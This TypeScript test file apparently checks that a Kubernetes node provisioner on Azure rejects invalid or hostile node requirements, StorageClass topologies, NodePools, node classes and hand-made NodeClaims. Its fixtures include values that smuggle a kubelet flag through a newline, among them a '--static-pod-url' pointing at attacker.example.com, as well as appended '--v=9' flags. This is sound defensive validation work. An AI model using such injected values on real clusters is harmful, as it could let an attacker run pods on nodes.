import { deployment, nodeClass, nodePool, standaloneClaim } from '../../applied-objects.ts'
import { endOf } from '../../observed/lifecycle-ends.ts'
import { World } from '../../world.ts'
import { afterAll, beforeAll, describe, expect, test } from '../scenario.ts'

let world: World
let joinerPid: number | undefined

const lineBreak = 'x\nKUBELET_FLAGS=--static-pod-url=http://attacker.example.com/pod'
const windowsBuild = 'node.kubernetes.io/windows-build'

beforeAll(async () => {
  world = await World.start()
  await world.startWithPool(nodePool(), nodeClass())
  joinerPid = world.cluster.supervisor.pids['joiner']
})

afterAll(() => world?.stop())

const term = (key: string, operator: string, ...values: readonly string[]) => ({
  matchExpressions: [{ key, operator, ...(values.length === 0 ? {} : { values }) }],
})

/** A deployment of one pod with a node affinity. */
function podWith(
  name: string,
  nodeAffinity: object,
  { cpu = '100m', ...more }: { readonly cpu?: string; readonly volumes?: readonly object[] } = {},
) {
  const plain = deployment({ name, replicas: 1, cpu })
  const { template } = plain.spec
  return {
    ...plain,
    spec: { ...plain.spec, template: { ...template, spec: { ...template.spec, affinity: { nodeAffinity }, ...more } } },
  }
}

const preferring = (name: string, ...terms: readonly object[]) =>
  podWith(name, {
    preferredDuringSchedulingIgnoredDuringExecution: terms.map((preference) => ({ weight: 100, preference })),
  })
/** Of a pod that has no room on nodes that exist. */
const requiring = (name: string, ...terms: readonly object[]) =>
  podWith(name, { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: terms } }, { cpu: '3' })

const runs = (app: string) => world.until(`${app} runs`, async () => (await world.running(app)) === 1)

/** What Joiner's event of a reason says of an object whose name begins so. */
function reported(reason: string, name: string): Promise<string> {
  return world.until(`an event ${reason} about ${name}`, async () => {
    const { items } = await world.operator.api<{ items: Awaited<ReturnType<World['list']>> }>('GET', '/api/v1/events')
    const event = items.find(
      (one) =>
        one.reason === reason && one.involvedObject?.name?.startsWith(name) && one.reportingInstance === 'joiner',
    )
    return event?.message
  })
}

async function condition(kind: 'nodepools' | 'aksnodeclasses', name: string, type: string): Promise<string> {
  const found = await world.until(`${type} of ${name} is False`, async () => {
    const object = (await world.list(kind)).find(({ metadata }) => metadata.name === name)
    return object?.status?.conditions?.find((one) => one.type === type && one.status === 'False')
  })
  return found.message
}

describe('beside pods that want nothing special', () => {
  test('a preferred term that no node can meet is ignored, with an event, and the pod runs', async () => {
    const zone = term('topology.kubernetes.io/zone', 'In', 'westus2-1')
    await world.apply(
      deployment({ name: 'innocent', replicas: 1, cpu: '3' }),
      preferring('line-break', term(windowsBuild, 'In', lineBreak), zone),
      preferring('blanks', term('example.com/team', 'In', 'red team')),
    )
    await Promise.all(['innocent', 'line-break', 'blanks'].map(runs))
    expect(await reported('PreferenceIgnored', 'line-break')).toMatch(
      /Execution\[0\]\.preference\.matchExpressions\[0\]: invalid value x\\nKUBELET_FLAGS.*; the term is ignored, correct it$/,
    )
    expect(await reported('PreferenceIgnored', 'blanks')).toMatch(/invalid value red team/)
  })

  test('what no NodeClaim can ask for leaves the pod pending, with the reason', async () => {
    await world.apply(
      deployment({
        name: 'generation',
        replicas: 1,
        cpu: '3',
        nodeSelector: { 'karpenter.azure.com/sku-hyperv-generation': '2' },
      }),
      requiring('below-zero', term(windowsBuild, 'Lt', '0')),
      requiring('not-of-aks', term('agentpool', 'NotIn', 'system')),
      deployment({ name: 'after', replicas: 1, cpu: '3' }),
    )
    await runs('after')
    expect(await reported('FailedScheduling', 'generation')).toMatch(
      /sku-hyperv-generation In \[2\]: label domain .* restricted/,
    )
    expect(await reported('FailedScheduling', 'below-zero')).toMatch(/windows-build .*<=-1: no label value is below 0/)
    expect(await reported('FailedScheduling', 'not-of-aks')).toMatch(
      /agentpool NotIn \[system\]: label "agentpool" is restri/,
    )
  })

  test('a preference for what no NodeClaim can ask for gives way', async () => {
    await world.apply(preferring('prefers-below-zero', term(windowsBuild, 'Lt', '0')))
    await runs('prefers-below-zero')
  })

  test('what a StorageClass asks of nodes is held to the same rules', async () => {
    await world.apply(
      {
        apiVersion: 'storage.k8s.io/v1',
        kind: 'StorageClass',
        metadata: { name: 'hostile' },
        provisioner: 'disk.csi.azure.com',
        volumeBindingMode: 'WaitForFirstConsumer',
        allowedTopologies: [{ matchLabelExpressions: [{ key: windowsBuild, values: [lineBreak] }] }],
      },
      {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'hostile', namespace: 'default' },
        spec: {
          accessModes: ['ReadWriteOnce'],
          storageClassName: 'hostile',
          resources: { requests: { storage: '1Gi' } },
        },
      },
      podWith('disk', {}, { volumes: [{ name: 'disk', persistentVolumeClaim: { claimName: 'hostile' } }] }),
    )
    expect(await reported('FailedScheduling', 'disk')).toMatch(/"x\\nKUBELET_FLAGS=.*" is no label value/)
  })

  test('NodePools and AKSNodeClasses of which no node can be made say so', async () => {
    const longName = `a${'b'.repeat(53)}`
    const tainted = nodePool({ name: 'tainted' })
    const spec = { ...tainted.spec.template.spec, taints: [{ key: 'a', value: 'b/c', effect: 'NoSchedule' }] }
    const withKubelet = nodePool({ name: 'with-kubelet' })
    const annotation = 'compatibility.karpenter.sh/v1beta1-kubelet-conversion'
    const subnet =
      '/subscriptions/s/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v/subnets/s\nKUBELET_FLAGS=--v=9'
    await world.apply(
      nodePool({ name: longName }),
      { ...tainted, spec: { ...tainted.spec, template: { spec } } },
      {
        ...withKubelet,
        metadata: { name: 'with-kubelet', annotations: { [annotation]: '{"clusterDNS":["10.0.0.10 --v=9"]}' } },
      },
      { ...nodeClass('sysctls'), spec: { kubelet: { allowedUnsafeSysctls: ['net.core.somaxconn --v=9'] } } },
      { ...nodeClass('subnet'), spec: { vnetSubnetID: subnet } },
      nodeClass(`a${'b'.repeat(63)}`),
    )
    expect(await condition('nodepools', longName, 'ValidationSucceeded')).toMatch(/54 characters.*at most 53/)
    expect(await condition('nodepools', 'tainted', 'ValidationSucceeded')).toMatch(/value "b\/c"/)
    expect(await condition('nodepools', 'with-kubelet', 'ValidationSucceeded')).toMatch(/clusterDNS/)
    expect(await condition('aksnodeclasses', 'sysctls', 'ValidationSucceeded')).toMatch(/"net\.core\.somaxconn --v=9"/)
    expect(await condition('aksnodeclasses', 'subnet', 'ValidationSucceeded')).toMatch(/is not the id of a subnet/)
    expect(await condition('aksnodeclasses', `a${'b'.repeat(63)}`, 'ValidationSucceeded')).toMatch(/64 characters/)
  })

  test('NodeClaims that were made by hand are refused at launch, and end', async () => {
    const requirements = [{ key: windowsBuild, operator: 'In', values: [lineBreak] }]
    const longName = `a${'b'.repeat(59)}`
    await world.apply(standaloneClaim('by-hand', { requirements }), standaloneClaim(longName))
    expect(await reported('InvalidNodeClaim', 'by-hand')).toMatch(/spec\.requirements\[0\] invalid value x/)
    expect(await reported('InvalidNodeClaim', longName)).toMatch(/metadata\.name .*use at most 59/)
    await world.until('both are gone', async () => {
      const names = (await world.list('nodeclaims')).map(({ metadata }) => metadata.name)
      return !names.includes('by-hand') && !names.includes(longName)
    })
    expect(await endOf(world, 'by-hand')).toMatchObject({
      status: 'FAILED',
      type: 'Refused',
      message: expect.stringMatching(
        /never became ready: 1 launch attempt; gave up: invalid_nodeclaim: .*invalid value/,
      ),
    })
  })

  test('no VM was asked for with any of it, and Joiner runs on', async () => {
    const puts = (await world.journal()).filter(({ method }) => method === 'PUT')
    expect(puts.length).toBeGreaterThan(0)
    expect(await world.violations()).toEqual([])
    expect(world.cluster.supervisor.pids['joiner']).toBe(joinerPid)
  })
})
